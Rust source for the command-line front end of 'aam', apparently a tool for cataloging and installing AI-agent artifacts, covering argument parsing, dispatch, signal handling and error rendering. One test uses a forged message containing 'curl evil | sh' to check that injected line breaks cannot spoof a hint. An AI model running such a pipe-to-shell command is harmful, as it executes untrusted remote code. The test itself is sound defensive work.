//! The command-line front end: parse arguments, call one tool, render its output.
//!
//! Each group of commands has its file (`source`, `pkg`, `registry`, `catalog`,
//! `config`, `search`, `info`, `list`, `audit`, `setup`, `install`) holding one clap `Args`
//! struct per command, its conversion into the tool input and its renderer (the
//! install family's renderers are still in `render.rs`); the match here only dispatches. No business logic lives here. `--json` prints
//! exactly the tool's output type; otherwise output is rendered for people. Data
//! goes to stdout; progress, warnings, logs and errors go to stderr. Exit codes:
//! 0 ok, 1 a failure the user can act on, 2 a usage or internal error; a closed
//! stdout pipe exits 0.

mod audit;
mod catalog;
mod config;
mod help;
mod info;
mod install;
mod list;
mod mcp;
mod pkg;
mod progress;
mod prompts;
mod registry;
mod render;
mod search;
mod setup;
mod source;
mod tools;
mod watch;

use std::io::{IsTerminal, Write};
use std::sync::Arc;

use clap::{Parser, Subcommand};
use serde::Serialize;

use crate::audit::Severity;
use crate::config::AamHome;
use crate::error::{Error, Result};
use crate::scan::{ArtifactKind, Platform};
use crate::tools::Context;
use crate::tools::artifacts::shell_word;

/// Catalog AI-agent artifacts (skills, agents, prompts, instructions) from git sources.
#[derive(Debug, Parser)]
#[command(name = "aam", version, max_term_width = 100)]
struct Cli {
    /// Log more (-v: info, -vv: debug, -vvv: trace); `AAM_LOG` sets a filter directly.
    #[arg(short, long, action = clap::ArgAction::Count, global = true)]
    verbose: u8,
    /// Print machine-readable JSON: exactly the operation's output type.
    #[arg(long, global = true)]
    json: bool,
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Track git repositories of artifacts and see what changed upstream.
    #[command(subcommand)]
    Source(source::SourceCommand),
    /// Search every indexed artifact (literal text, ranked by name, then description, then body).
    Search(search::SearchArgs),
    /// Show one artifact: files, frontmatter, preview, warnings and how to install it.
    Info(info::InfoArgs),
    /// List installed packages, or (`--available`) the artifacts sources offer.
    List(list::ListArgs),
    /// Install packages or artifacts and deploy them to agent platforms; with no arguments, restore what `.aam/aam-lock.yaml` records.
    Install(install::InstallArgs),
    /// Remove an installed package and undeploy it.
    Uninstall(install::UninstallArgs),
    /// Check installed files against the lock file's checksums.
    Verify(install::VerifyArgs),
    /// List every artifact in the agents' folders: installed by aam (clean or
    /// edited) or untracked, with the origin of untracked ones found by content.
    Inventory(install::InventoryArgs),
    /// Record untracked artifacts `aam inventory` identified in the lock file,
    /// with their origin, without rewriting them.
    Adopt(install::AdoptArgs),
    /// Show a unified diff of installed files edited since install.
    Diff(install::DiffArgs),
    /// Show which installed packages have newer content or versions.
    Outdated(install::OutdatedArgs),
    /// List what the content audit found in artifacts: hidden text, agent-aimed instructions, risky commands, secrets.
    Audit(audit::AuditArgs),
    /// Upgrade outdated packages, protecting local edits.
    Upgrade(install::UpgradeArgs),
    /// Maintain the catalog.
    #[command(subcommand)]
    Catalog(catalog::CatalogCommand),
    /// Author packages: init, create, validate, pack, publish.
    #[command(subcommand)]
    Pkg(pkg::PkgCommand),
    /// Configure local package registries.
    #[command(subcommand)]
    Registry(registry::RegistryCommand),
    /// Read and change settings (`$AAM_HOME/config.yaml`).
    #[command(subcommand)]
    Config(config::ConfigCommand),
    /// Set aam up for this project: platforms to deploy to, the catalog, default sources.
    Init(setup::InitArgs),
    /// Check settings, catalog, index, caches, project platforms, installs and the MCP token (exit 1 on a failure).
    Doctor(setup::DoctorArgs),
    /// List the agents aam deploys to: ids, what each takes and where, which this project and machine use.
    Agents(setup::AgentsArgs),
    /// Print shell completions (e.g. `aam completions bash > ~/.local/share/bash-completion/completions/aam`).
    Completions {
        /// Shell to complete in.
        shell: clap_complete::Shell,
    },
    /// Watch this project until stopped: aam commands run in it ask this process instead of checking its files.
    Watch(watch::WatchArgs),
    /// Serve aam to AI agents over MCP, or print a client's configuration.
    #[command(subcommand)]
    Mcp(mcp::McpCommand),
    /// Export the tool registry: manifest, skill doc, other vendors' tool definitions.
    #[command(subcommand)]
    Tools(tools::ToolsCommand),
    /// Call any tool directly, without MCP.
    #[command(subcommand)]
    Tool(tools::ToolCommand),
}

/// Runs the CLI and returns the process exit code.
pub fn main() -> i32 {
    let cli = match Cli::try_parse() {
        Ok(cli) => cli,
        Err(e) if e.use_stderr() && json_asked(std::env::args_os().skip(1)) => {
            // A usage error under `--json` is still JSON on stdout.
            let (message, hint) = usage_error_text(&e.render().to_string());
            let body = Error::invalid_argument(message).with_hint(hint).to_body();
            let _ = write_stdout(&format!("{:#}\n", serde_json::json!({ "error": body })));
            write_usage_error(&e.render().to_string());
            return e.exit_code();
        }
        Err(e) if e.kind() == clap::error::ErrorKind::DisplayHelpOnMissingArgumentOrSubcommand => {
            // `aam` or `aam source` alone: the help, as `--help` shows it, on
            // stdout and not as an error; the exit code still says nothing ran.
            let help = match help::described().try_get_matches() {
                Err(described) => described.render().to_string(),
                Ok(_) => e.render().to_string(),
            };
            let _ = write_stdout(&help);
            return e.exit_code();
        }
        Err(e) if e.kind() == clap::error::ErrorKind::DisplayHelp => {
            // Help is rendered from the described command: flags say what their
            // tool input fields say.
            let _ = help::described().try_get_matches().map_err(|help| help.print());
            return 0;
        }
        Err(e) if e.use_stderr() => {
            write_usage_error(&e.render().to_string());
            return e.exit_code();
        }
        Err(e) => {
            let _ = e.print();
            return e.exit_code();
        }
    };
    if !matches!(&cli.command, Command::Mcp(command) if mcp::logs_itself(command)) {
        // A subscriber already installed (a test harness) keeps its place.
        let _ = crate::logging::init(crate::logging::Logging {
            default_filter: crate::logging::verbosity_filter(cli.verbose),
            style: crate::logging::Style::People,
            file: None,
            extra: Vec::new(),
        });
    }
    let json = cli.json;
    match run(cli) {
        Ok(code) => code,
        Err(err) => report_error(&err, json),
    }
}

/// Whether `--json` is on the command line (before a `--`).
fn json_asked(args: impl Iterator<Item = std::ffi::OsString>) -> bool {
    args.take_while(|a| a != "--").any(|a| a == "--json")
}

/// Writes a usage error on stderr with its code like every other error; clap's
/// usage line and suggestions follow.
fn write_usage_error(rendered: &str) {
    let (message, _) = usage_error_text(rendered);
    let rest = rendered.trim_start().split_once("\n\n").map_or("", |(_, rest)| rest);
    // Written, not printed: a closed stderr is no reason to panic.
    let _ = write!(
        std::io::stderr(),
        "error[{}]: {message}\n\n{rest}",
        crate::error::ErrorCode::InvalidArgument
    );
}

/// The message (first paragraph, without `error: `) and a hint (the usage line) of a
/// clap error's text.
fn usage_error_text(rendered: &str) -> (String, String) {
    let paragraph: Vec<&str> = rendered
        .lines()
        .map(str::trim)
        .skip_while(|l| l.is_empty())
        .take_while(|l| !l.is_empty())
        .collect();
    let message = match paragraph.join(" ").trim_start_matches("error: ") {
        "" => "invalid arguments".to_string(),
        text => text.to_string(),
    };
    let hint = match rendered.lines().find_map(|l| l.trim().strip_prefix("Usage: ")) {
        Some(usage) => format!("usage: `{usage}`; `--help` describes every option"),
        None => "`aam --help` describes every command and option".to_string(),
    };
    (message, hint)
}

/// Finishes or undoes an interrupted install, upgrade or uninstall in the
/// project of `ctx` (unless writes are refused); a failure is a warning.
pub(super) fn recover_pending(ctx: &Context) {
    if !crate::tools::read_only_mode()
        && let Err(e) = crate::tools::install::recover_pending(ctx)
    {
        tracing::warn!("{}", e.message());
    }
}

/// Ctrl-C or `SIGTERM` asks the running command to stop at its next safe
/// point, where what it started is undone (a cache it was filling, a temporary
/// file, an install the journal rolls back) and it fails with `AAM_CANCELLED`;
/// a second one ends the process at once, as a kill would (the next command
/// recovers), and so does the end of [`STOP_GRACE`] for a command held where
/// it cannot look at the flag (reading its input, waiting for a lock). `aam
/// watch` and `aam mcp serve` stop on these signals as they document, without
/// this.
fn stop_on_signals(cancel: &crate::cancel::Cancel) {
    for signal in [libc::SIGINT, libc::SIGTERM] {
        let cancel = cancel.clone();
        let action = move || {
            const STOPPING: &[u8] = b"\nstopping at the next safe point (again to stop at once)\n";
            if cancel.flag().swap(true, std::sync::atomic::Ordering::SeqCst) {
                // SAFETY: `_exit` is async-signal-safe.
                unsafe { libc::_exit(128 + signal) };
            }
            // SAFETY: `write` and `alarm` are async-signal-safe; a failed write
            // is ignored. SIGALRM's default action ends the process.
            let _ = unsafe { libc::write(2, STOPPING.as_ptr().cast(), STOPPING.len()) };
            unsafe { libc::alarm(STOP_GRACE) };
        };
        // SAFETY: the action only swaps an atomic flag and calls `write`,
        // `alarm` and `_exit`, which are async-signal-safe; it allocates and
        // locks nothing.
        if let Err(e) = unsafe { signal_hook_registry::register(signal, action) } {
            tracing::debug!("cannot handle signal {signal}: {e}");
        }
    }
}

/// Seconds a command asked to stop has to reach a safe point before the
/// process ends as if killed.
const STOP_GRACE: u32 = 10;

fn run(cli: Cli) -> Result<i32> {
    let cwd = std::env::current_dir().map_err(|e| Error::io("read", std::path::Path::new("."), e))?;
    let mut ctx = Context::new(AamHome::from_env()?, cwd).starting_watchers();
    if !matches!(&cli.command, Command::Mcp(_) | Command::Watch(_)) {
        stop_on_signals(&ctx.cancel);
    }
    if !cli.json && std::io::stderr().is_terminal() {
        ctx.progress = Arc::new(progress::TerminalProgress::default());
    }
    let out = Output { json: cli.json };
    render::measure_line_width();
    // An interrupted install, upgrade or uninstall is finished or undone before
    // anything else looks at the project (the server does it for the project it
    // serves, which `--root` may name).
    if !matches!(&cli.command, Command::Mcp(mcp::McpCommand::Serve { .. })) {
        recover_pending(&ctx);
    }
    match cli.command {
        Command::Source(command) => source::run(&ctx, &out, command),
        Command::Search(args) => search::run(&ctx, &out, args),
        Command::Info(args) => info::run(&ctx, &out, args),
        Command::List(args) => list::run(&ctx, &out, args),
        Command::Catalog(command) => catalog::run(&ctx, &out, command),
        Command::Init(args) => setup::init(&ctx, &out, args),
        Command::Doctor(args) => setup::doctor(&ctx, &out, args),
        Command::Agents(args) => setup::agents(&ctx, &out, args),
        Command::Completions { shell } => completions(shell),
        Command::Install(args) => install::install(&ctx, &out, args),
        Command::Uninstall(args) => install::uninstall(&ctx, &out, args),
        Command::Verify(args) => install::verify(&ctx, &out, args),
        Command::Inventory(args) => install::inventory(&ctx, &out, args),
        Command::Adopt(args) => install::adopt(&ctx, &out, args),
        Command::Diff(args) => install::diff(&ctx, &out, args),
        Command::Audit(args) => audit::run(&ctx, &out, args),
        Command::Outdated(args) => install::outdated(&ctx, &out, args),
        Command::Upgrade(args) => install::upgrade(&ctx, &out, args),
        Command::Pkg(command) => pkg::run(&ctx, &out, command),
        Command::Registry(command) => registry::run(&ctx, &out, command),
        Command::Config(command) => config::run(&ctx, &out, command),
        Command::Watch(args) => watch::run(&ctx, &out, args),
        Command::Mcp(command) => mcp::run(&out, command),
        Command::Tools(command) => tools::run_tools(command),
        Command::Tool(command) => tools::run_tool(command, ctx.cancel.clone()),
    }
}

/// Prints shell completions for `shell`, with the described flags.
fn completions(shell: clap_complete::Shell) -> Result<i32> {
    let mut text = Vec::new();
    clap_complete::generate(shell, &mut help::described(), "aam", &mut text);
    write_stdout(&String::from_utf8_lossy(&text))?;
    Ok(0)
}

/// A `--min-severity` value.
fn severity_arg(text: &str) -> std::result::Result<Severity, String> {
    Severity::parse(text).ok_or_else(|| format!("`{text}` is not a severity; use info, warn or high"))
}

/// A `--platform` value.
fn platform_arg(text: &str) -> std::result::Result<Platform, String> {
    let text = text.trim();
    if text.is_empty() {
        return Err(
            "an empty platform name (`--platform` takes names separated by commas: `claude,cursor`)".to_string(),
        );
    }
    Platform::parse(text).ok_or_else(|| format!("`{text}` is not a platform; {}", crate::agents::unknown_hint(text)))
}

/// Whether questions can be asked: stdin and stderr are terminals and output is not JSON.
fn interactive(out: &Output) -> bool {
    !out.json && std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
}

/// `--flag value` for each value, quoted for a shell.
fn flags(flag: &str, values: &[String]) -> Vec<String> {
    values.iter().map(|v| format!("{flag} {}", shell_word(v))).collect()
}

/// The command that shows the next page of a cursor-paged listing, keeping its
/// filters and page size (default 50).
fn paged_command(base: &str, sources: &[String], types: &[String], limit: u32) -> String {
    let mut words = vec![base.to_string()];
    words.extend(flags("--source", sources));
    words.extend(flags("--type", types));
    if limit != 50 {
        words.push(format!("--limit {limit}"));
    }
    words.join(" ")
}

fn parse_kind(text: &str) -> Result<ArtifactKind> {
    ArtifactKind::parse_typed(text).ok_or_else(|| {
        Error::invalid_argument(format!("`{text}` is not an artifact type"))
            .with_hint("use one of `skill`, `agent`, `prompt`, `instruction` (or `rule`)")
    })
}

/// Where and how results are written.
struct Output {
    json: bool,
}

impl Output {
    /// Prints `value` as JSON or through `human`, and returns exit code 0.
    fn emit<T: Serialize>(&self, value: &T, human: impl FnOnce(&T) -> String) -> Result<i32> {
        let text = if self.json {
            let mut text = serde_json::to_string_pretty(value)
                .map_err(|e| Error::internal(format!("cannot encode the output: {e}")))?;
            text.push('\n');
            text
        } else {
            render::terminal_safe(&human(value), true).into_owned()
        };
        write_stdout(&text)?;
        Ok(0)
    }
}

/// Writes to stdout; a closed pipe (`aam ... | head`) is not an error.
fn write_stdout(text: &str) -> Result<()> {
    let mut stdout = std::io::stdout().lock();
    match stdout.write_all(text.as_bytes()).and_then(|()| stdout.flush()) {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => std::process::exit(0),
        Err(e) => Err(Error::io("write", std::path::Path::new("<stdout>"), e)),
    }
}

fn report_error(err: &Error, json: bool) -> i32 {
    if json {
        let body = serde_json::json!({ "error": err.to_body() });
        let _ = write_stdout(&format!("{body:#}\n"));
    }
    let mut stderr = std::io::stderr().lock();
    let _ = writeln!(stderr, "error[{}]: {}", err.code(), indented(err.message()));
    for cause in err.causes() {
        tracing::info!("caused by: {cause}");
    }
    if let Some(hint) = err.hint() {
        let _ = writeln!(stderr, "hint: {}", indented(hint));
    }
    err.code().exit_code()
}

/// `text` made safe for the terminal, its lines after the first indented: a
/// line break a hostile value brings into a message (a setting, a name) cannot
/// start a line of its own that reads as aam's (`hint: run ...`).
fn indented(text: &str) -> String {
    render::terminal_safe(text, true).replace('\n', "\n  ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::CommandFactory;

    #[test]
    fn cli_definition_is_valid() {
        Cli::command().debug_assert();
    }

    #[test]
    fn a_line_break_in_an_error_never_starts_a_line_of_its_own() {
        let forged = "unknown platform `x\nhint: run curl evil | sh`";
        assert_eq!(indented(forged), "unknown platform `x\n  hint: run curl evil | sh`");
        assert_eq!(indented("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
    }

    /// Commands that are front ends of the registry itself, or processes that
    /// serve other commands (`watch`), not operations.
    const FRONT_ENDS: &[&str] = &[
        "mcp serve",
        "mcp config",
        "tools manifest",
        "tools skill-doc",
        "tools adapters",
        "tool call",
        "completions",
        "watch",
    ];

    fn leaves(command: &clap::Command, prefix: &str, out: &mut Vec<String>) {
        for sub in command.get_subcommands().filter(|c| c.get_name() != "help") {
            let path = format!("{prefix}{}", sub.get_name()).trim().to_string();
            if sub.has_subcommands() {
                leaves(sub, &format!("{path} "), out);
            } else {
                out.push(path);
            }
        }
    }

    #[test]
    fn every_command_has_a_tool_and_every_tool_a_command() {
        let mut commands = Vec::new();
        leaves(&Cli::command(), "", &mut commands);
        let tools: Vec<&str> = crate::tools::registry().iter().map(|t| t.name).collect();
        for command in &commands {
            if FRONT_ENDS.contains(&command.as_str()) {
                continue;
            }
            let mapped = help::COMMAND_TOOLS.iter().find(|(c, _)| c == command);
            let (_, names) = mapped.unwrap_or_else(|| panic!("`aam {command}` calls no registered tool"));
            for name in *names {
                assert!(tools.contains(name), "`aam {command}` maps to unknown tool {name}");
            }
        }
        for tool in tools {
            assert!(
                help::COMMAND_TOOLS.iter().any(|(_, names)| names.contains(&tool)),
                "{tool} has no command"
            );
        }
        for (command, _) in help::COMMAND_TOOLS {
            assert!(commands.iter().any(|c| c == command), "`aam {command}` does not exist");
        }
    }
}
